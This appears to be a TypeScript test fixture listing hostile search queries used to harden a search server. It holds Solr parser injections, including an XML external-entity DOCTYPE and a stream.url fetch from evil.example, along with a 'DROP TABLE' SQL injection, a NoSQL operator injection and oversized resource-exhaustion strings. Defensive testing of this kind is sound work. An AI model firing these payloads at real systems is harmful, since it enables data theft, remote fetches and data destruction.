/** Questions in the languages of what may stand behind a search server, and such as are long, empty of words or costly. */
export const hostileQuestions: readonly string[] = [
  "*:*",
  "{!func}exp(99999)",
  "{!xmlparser v='<!DOCTYPE a SYSTEM \"http://evil.example/\">'}",
  '_query_:"{!join from=id to=id}id:*"',
  "stream.url=http://evil.example/ qt=/update commit=true",
  "a) OR (1=1); DROP TABLE articles; --",
  '{"$gt": ""}',
  "(((((".repeat(190),
  '"'.repeat(999),
  "OR ".repeat(300),
  "-a ".repeat(40),
  "country:".repeat(100),
  "a*b?c~ [* TO *] ^1000 /.*/",
  "تَ".repeat(480),
  "😀".repeat(450),
  "١٢٣٤٥٦٧٨٩٠ ".repeat(40),
];
